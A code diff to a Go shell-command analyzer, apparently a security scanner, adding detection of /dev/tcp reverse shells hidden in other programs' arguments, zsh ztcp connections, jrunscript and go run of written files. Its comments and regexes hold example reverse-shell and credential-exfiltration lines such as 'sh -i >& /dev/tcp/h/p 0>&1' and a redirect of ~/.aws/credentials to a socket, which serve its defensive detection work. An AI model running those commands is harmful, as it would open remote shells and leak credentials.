@@ -118,6 +118,11 @@ type analyzer struct {
 	// `<<`, `<<<`, `<&`); fedAll is set once `exec <file` redirects it for the rest of the line.
 	stdin  int
 	fedAll bool
+	// ztcp: zsh's ztcp opened a connection earlier on the line (its descriptor is $REPLY, or
+	// the one -d names): a later copy of any descriptor but 0, 1 and 2 hands a command to it.
+	ztcp bool
+	// rawRequest: the line being judged is a hand-made request over /dev/tcp (rawRequest).
+	rawRequest bool
 }
 
 // parsers reuses bash parsers (one is not safe for concurrent use; a new one allocates its
@@ -168,12 +173,12 @@ func (a *analyzer) line(src string, d int) {
 		}
 		return
 	}
-	saved := a.depth
-	a.depth = d
+	saved, savedRaw := a.depth, a.rawRequest
+	a.depth, a.rawRequest = d, rawRequest(f)
 	for _, s := range f.Stmts {
 		a.stmt(s)
 	}
-	a.depth = saved
+	a.depth, a.rawRequest = saved, savedRaw
 }
 
 func parse(src string) (*syntax.File, error) {
@@ -429,9 +434,14 @@ func (a *analyzer) stmt(s *syntax.Stmt) {
 	if s == nil {
 		return
 	}
+	probe := a.portCheck(s)
 	for _, r := range s.Redirs {
+		if (probe || a.rawRequest) && devTCP(a.literal(r.Word)) {
+			continue // nothing sent, nothing run: a port check (portCheck)
+		}
 		a.redirect(r)
 	}
+	a.shellInWords(s)
 	if readsRedirect(s.Redirs) {
 		a.stdin++
 		defer func() { a.stdin-- }()
@@ -704,10 +714,12 @@ var (
 // echo or printf prints there is what the line shows.
 func literalCall(s *syntax.Stmt) bool {
 	c, ok := s.Cmd.(*syntax.CallExpr)
-	if !ok || len(c.Assigns) > 0 || len(s.Redirs) > 0 {
-		return false
-	}
-	for _, w := range c.Args {
+	return ok && len(c.Assigns) == 0 && len(s.Redirs) == 0 && literalWords(c.Args)
+}
+
+// literalWords reports whether every word of ws is literal text (literalCall).
+func literalWords(ws []*syntax.Word) bool {
+	for _, w := range ws {
 		for _, p := range w.Parts {
 			switch p := p.(type) {
 			case *syntax.Lit, *syntax.SglQuoted:
@@ -766,6 +778,123 @@ func (a *analyzer) innerSource(s *syntax.Stmt) (src string, vendor bool) {
 	return src, src == "fetch" && vendor
 }
 
+// portCheck reports whether s only opens its redirects and runs nothing: no command (`<
+// /dev/tcp/db/5432`, the wait-for-port check of compose scripts), or `:` or `true` with no
+// arguments. Nothing is sent and nothing read is run (in a pipeline it feeds the next stage
+// nothing), so a /dev/tcp redirect of it is no finding. exec (the descriptor outlives the
+// statement), any other command, a block or subshell, a redirect of any other file (`: <
+// ~/.aws/credentials > /dev/tcp/h/p`), and a path not written out (`/dev/tcp/$H.x/80`, whose
+// host name can carry what the line read) are not port checks.
+func (a *analyzer) portCheck(s *syntax.Stmt) bool {
+	for _, r := range s.Redirs {
+		t := a.literal(r.Word)
+		if devTCP(t) && r.Word.Lit() == "" {
+			return false // a host or port the line computes can carry data (DNS)
+		}
+		if !devTCP(t) && t != "/dev/null" && r.Op != syntax.DplOut && r.Op != syntax.DplIn {
+			return false
+		}
+	}
+	switch c := s.Cmd.(type) {
+	case nil:
+		return true
+	case *syntax.CallExpr:
+		if len(c.Assigns) > 0 || len(c.Args) != 1 {
+			return false
+		}
+		name := c.Args[0].Lit()
+		return name == ":" || name == "true"
+	}
+	return false
+}
+
+// rawRequest reports whether f is, as a whole, a hand-made request over a /dev/tcp descriptor
+// (`exec 3<>/dev/tcp/example.com/80; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3`): first
+// `exec N<>/dev/tcp/HOST/PORT` (or N>, N<) with the path written out, then only `printf` or
+// `echo` of literal words onto N (>&N), `cat` with no argument reading N to the output (<&N),
+// and `exec N>&-`, each a simple command separated by `;`, with no assignment, pipe, other
+// redirect or other program. What is sent is what the line shows, and what comes back is only
+// printed: no program that could hand the inherited descriptor to a shell runs.
+func rawRequest(f *syntax.File) bool {
+	fd := ""
+	for i, s := range f.Stmts {
+		c, ok := s.Cmd.(*syntax.CallExpr)
+		if !ok || s.Background || s.Negated || s.Coprocess || len(c.Assigns) > 0 || len(c.Args) == 0 || len(s.Redirs) != 1 {
+			return false
+		}
+		r, name := s.Redirs[0], c.Args[0].Lit()
+		n := ""
+		if r.N != nil {
+			n = r.N.Value
+		}
+		switch {
+		case i == 0:
+			if name != "exec" || len(c.Args) != 1 || len(n) != 1 || n < "3" || n > "9" || r.Word.Lit() == "" || !devTCP(r.Word.Lit()) ||
+				r.Op != syntax.RdrInOut && r.Op != syntax.RdrOut && r.Op != syntax.RdrIn {
+				return false
+			}
+			fd = n
+		case name == "printf" || name == "echo":
+			if (r.Op != syntax.DplOut || n != "" && n != "1") || r.Word.Lit() != fd || !literalWords(c.Args) {
+				return false
+			}
+		case name == "cat":
+			if len(c.Args) != 1 || (r.Op != syntax.DplIn || n != "" && n != "0") || r.Word.Lit() != fd {
+				return false
+			}
+		case name == "exec":
+			if len(c.Args) != 1 || (r.Op != syntax.DplOut && r.Op != syntax.DplIn) || n != fd || r.Word.Lit() != "-" {
+				return false
+			}
+		default:
+			return false
+		}
+	}
+	return fd != ""
+}
+
+// devTCP reports whether t names bash's network special file, /dev/tcp/HOST/PORT or /dev/udp/.
+func devTCP(t string) bool {
+	return strings.HasPrefix(t, "/dev/tcp/") || strings.HasPrefix(t, "/dev/udp/")
+}
+
+var (
+	// devTCPWord matches a /dev/tcp/HOST/PORT (or /dev/udp) path inside a word's text.
+	devTCPWord = lazyre.New(`/dev/(?:tcp|udp)/[^/\s"'<>|&;]+/[^/\s"'<>|&;]+`)
+	// shellOnSocket matches, in the same text, what hands a shell to that connection: a
+	// descriptor redirect (`>&`, `0>&1`, `<&`, `5<>`) or a shell's interactive start (`sh -i`).
+	shellOnSocket = lazyre.New(`[<>]&|\d<>|\b(?:ba|z|da|k|a|c|tc)?sh\s+-i\b`)
+)
+
+// shellInWords finds the /dev/tcp reverse shell written inside another program's argument or
+// here-string (gdb -ex 'python os.system("sh -i >& /dev/tcp/h/p 0>&1")', vim -c ':!bash -c
+// "..."', jshell <<< '...exec(... /dev/tcp/...)'): a word of s that holds a /dev/tcp/HOST/PORT
+// path together with a descriptor redirect or an interactive shell is one, wherever it sits.
+// A word that only names the path (`grep -r /dev/tcp/ .`, a port check's text) is not.
+func (a *analyzer) shellInWords(s *syntax.Stmt) {
+	var words []*syntax.Word
+	if c, ok := s.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 1 {
+		words = append(words, c.Args[1:]...)
+	}
+	for _, r := range s.Redirs {
+		switch {
+		case r.Op == syntax.WordHdoc:
+			words = append(words, r.Word)
+		case r.Hdoc != nil:
+			words = append(words, r.Hdoc)
+		}
+	}
+	for _, w := range words {
+		if w == nil {
+			continue
+		}
+		t := a.literal(w)
+		if strings.Contains(t, "/dev/") && devTCPWord.MatchString(t) && shellOnSocket.MatchString(t) {
+			a.add("exfil/dev_tcp", "hands a shell to a raw network connection written inside another program's argument", t, 0.95)
+		}
+	}
+}
+
 func (a *analyzer) redirect(r *syntax.Redirect) {
 	if r.Word == nil {
 		return
@@ -775,8 +904,10 @@ func (a *analyzer) redirect(r *syntax.Redirect) {
 		a.res.Files = append(a.res.Files, t)
 	}
 	switch {
-	case strings.HasPrefix(t, "/dev/tcp/") || strings.HasPrefix(t, "/dev/udp/"):
+	case devTCP(t):
 		a.add("exfil/dev_tcp", "opens a raw network connection (reverse shell or exfiltration)", t, 0.95)
+	case a.ztcp && (r.Op == syntax.DplIn || r.Op == syntax.DplOut) && t != "0" && t != "1" && t != "2" && t != "-":
+		a.add("exfil/dev_tcp", "hands a command's input or output to the connection zsh's ztcp opened", t, 0.95)
 	case r.Op == syntax.RdrOut || r.Op == syntax.AppOut || r.Op == syntax.RdrAll || r.Op == syntax.AppAll || r.Op == syntax.ClbOut:
 		if len(a.res.Writes) < MaxCommands {
 			a.res.Writes = append(a.res.Writes, t)
@@ -852,11 +983,18 @@ func unwrap(argv []string) []string {
 func base(s string) string { return path.Base(s) }
 
 func interpreter(name string) bool {
-	switch strings.TrimRight(name, "0123456789.") {
-	case "sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "python", "perl", "ruby", "node", "php", "lua", "deno", "bun", "pwsh", "powershell", "osascript", "source", ".":
+	switch interpLang(name) {
+	case "sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "python", "perl", "ruby", "node", "php", "lua", "deno", "bun", "pwsh", "powershell", "osascript", "source", ".",
+		"jrunscript": // the JDK's script runner: jrunscript -e 'java.lang.Runtime.getRuntime().exec(…)'
 		return true
 	}
 	return false
+}
+
+// interpLang is an interpreter's language: its name without a version (python3.11) or a
+// Windows .exe suffix (python.exe, powershell.exe, run from WSL or Git Bash).
+func interpLang(name string) string {
+	return strings.TrimRight(strings.TrimSuffix(name, ".exe"), "0123456789.")
 }
 
 // runsFile reports whether an interpreter's arguments name a script file (so stdin is data).
@@ -964,6 +1102,9 @@ func (a *analyzer) command(argv []string) {
 	line := strings.Join(argv, " ")
 	if a.defined(argv, line) {
 		return
+	}
+	if name == "ztcp" {
+		a.ztcp = true
 	}
 	switch name {
 	case "sudo", "doas", "pkexec", "su", "run0":
@@ -1279,6 +1420,24 @@ func (a *analyzer) command(argv []string) {
 	case "awk", "gawk", "mawk", "nawk", "busybox awk":
 		if prog := awkProgram(args); prog != "" {
 			a.code("awk", prog, line)
+		}
+	case "go":
+		// `go run f.go` of a file the line wrote (`echo 'package main;…net.Dial…' > /tmp/t.go
+		// && go run /tmp/t.go`): the written source is read as inline code (runScript).
+		if len(args) > 1 && args[0] == "run" {
+			for _, x := range operands(args[1:]) {
+				if strings.HasSuffix(x, ".go") {
+					a.runScript(x, "go", line)
+					continue
+				}
+				// a package folder (`go run .`): the .go files the line wrote in it
+				dir := a.fileKey(x)
+				for k := range a.written {
+					if strings.HasSuffix(k, ".go") && path.Dir(k) == dir {
+						a.runScript(k, "go", line)
+					}
+				}
+			}
 		}
 	}
 	a.catalogue(name, args, line)
@@ -1940,7 +2099,7 @@ func unresolvedRef(r string) bool {
 // interp checks inline code given to an interpreter (-c, -e, -E, -r, --eval, -p, perl's -le
 // and -ne) and a script file it runs that the line wrote or downloaded earlier.
 func (a *analyzer) interp(name string, args []string, line string) {
-	lang := strings.TrimRight(name, "0123456789.")
+	lang := interpLang(name)
 	shellish := shellLang(lang)
 	for i := range args {
 		code := inlineCodeAt(lang, args, i, shellish)
